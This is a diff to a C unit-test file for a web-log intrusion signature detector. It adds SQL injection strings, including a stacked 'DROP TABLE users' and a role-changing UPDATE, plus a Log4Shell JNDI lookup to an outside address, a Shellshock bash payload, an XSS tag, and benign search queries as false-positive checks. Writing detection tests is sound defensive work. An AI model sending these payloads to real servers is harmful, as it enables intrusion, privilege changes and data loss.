@@ -69,6 +69,11 @@ static void test_sqli(void **state)
 	HIT(WEBLOG_CAT_SQLI, "/a?id=1 and 1=1");
 	HIT(WEBLOG_CAT_SQLI, "/a?u=admin'--");
 	HIT(WEBLOG_CAT_SQLI, "/a?id=(select table_name from information_schema.tables)");
+	/* numeric stacked statements (no quote to close) */
+	HIT(WEBLOG_CAT_SQLI, "/van-ban?id=1;%20DROP%20TABLE%20users--");
+	HIT(WEBLOG_CAT_SQLI, "/van-ban?id=7;update users set role=1");
+	HIT(WEBLOG_CAT_SQLI, "/tin-tuc?id=1/**/UNION/**/SELECT/**/1,2,3");
+	HIT(WEBLOG_CAT_SQLI, "/hoi-dap?id=1%20ORDER%20BY%203--");
 }
 
 static void test_xss(void **state)
@@ -153,6 +158,12 @@ static void test_benign(void **state)
 		"/api/thong-ke?nam=2024&quy=3", "/co-quan/so-tu-phap/lien-he", "/hoi-dap?page=2&sort=-ngay",
 		"/danh-gia-hai-long?ho-so=000.00.12.H15-241010-0001", "/login?next=%2Ftra-cuu-ho-so",
 		"/tin-tuc/thong-bao-nghi-le-30-4-va-1-5", "/linh-vuc/dat-dai?xa=phuoc-tan&huyen=bien-hoa",
+		/* what people type: quotes, dashes, signs, shell-looking words */
+		"/tim-kiem?q=ho+so+%27dat+dai%27+or+%27nha+o%27", "/tim-kiem?q=mau+so+01+or+02",
+		"/tim-kiem?q=luong+co+so+1.800.000+%2B+phu+cap", "/tim-kiem?q=ho+so+dat+dai+--+huong+dan",
+		"/tim-kiem?q=nguyen+van+a+%26+tran+thi+b", "/tim-kiem?q=o%27neil+visa", "/tim-kiem?q=ket+qua+%3C%3D+5+ngay",
+		"/tim-kiem?q=sleep+clinic+dong+nai", "/tim-kiem?q=echo+cardiogram", "/tim-kiem?q=cat+tuong+-+bien+hoa",
+		"/tim-kiem?q=phong+1%3B+update+ho+so", "/tim-kiem?q=select+1+in+3+options",
 	};
 	for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
 		unsigned h = hits_of(benign[i], NULL);
@@ -161,6 +172,44 @@ static void test_benign(void **state)
 	}
 	assert_int_equal(hits_of("/", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), 0);
 	assert_int_equal(hits_of("/", "CocCoc/1.0 (Windows NT 10.0; Win64; x64) coc_coc_browser/128.0"), 0);
+}
+
+/* The user-agent memo answers exactly as a scan would: same hits, same order,
+ * a signature hit in both fields listed once, and a different text not served
+ * from a slot it shares. */
+static void test_header_memo(void **state)
+{
+	(void)state;
+	struct weblog_sigs_scratch *fresh = NULL;
+	const char *uas[] = {"${jndi:ldap://198.51.100.7/a}", "Mozilla/5.0 <script>alert(1)</script>", "sqlmap/1.7",
+			     "Mozilla/5.0 (X11)", "() { :; }; /bin/bash -c id"};
+	const char *uris[] = {"/", "/a?q=<script>x</script>", "/tin-tuc"};
+	for (int round = 0; round < 3; round++) {
+		for (size_t u = 0; u < sizeof uas / sizeof uas[0]; u++) {
+			for (size_t r = 0; r < sizeof uris / sizeof uris[0]; r++) {
+				struct weblog_entry e;
+				memset(&e, 0, sizeof e);
+				e.ip = "192.0.2.1";
+				e.method = "GET";
+				e.uri = uris[r];
+				e.referer = "-";
+				e.user_agent = uas[u];
+				struct weblog_sig_hits a, b;
+				assert_int_equal(weblog_sigs_scratch_new(sigs, &fresh), 0);
+				assert_int_equal(weblog_sigs_match(sigs, fresh, &e, &a), 0); /* no memo yet */
+				weblog_sigs_scratch_free(fresh);
+				assert_int_equal(weblog_sigs_match(sigs, scratch, &e, &b), 0); /* memo from round 1 */
+				assert_int_equal(a.n, b.n);
+				for (int i = 0; i < a.n; i++)
+					assert_ptr_equal(a.sig[i], b.sig[i]);
+				for (int i = 0; i < b.n; i++)
+					for (int j = 0; j < i; j++)
+						assert_ptr_not_equal(b.sig[i], b.sig[j]);
+			}
+		}
+	}
+	assert_true(hits_of("/", "${jndi:ldap://x/a}") & (1u << WEBLOG_CAT_LOG4SHELL));
+	assert_int_equal(hits_of("/", "Mozilla/5.0 (X11)"), 0);
 }
 
 static void test_decode_and_load(void **state)
@@ -190,6 +239,7 @@ int main(void)
 		cmocka_unit_test(test_traversal), cmocka_unit_test(test_cmdi),
 		cmocka_unit_test(test_log4shell), cmocka_unit_test(test_probes_and_tools),
 		cmocka_unit_test(test_benign),    cmocka_unit_test(test_decode_and_load),
+		cmocka_unit_test(test_header_memo),
 	};
 	return cmocka_run_group_tests(tests, setup, teardown);
 }
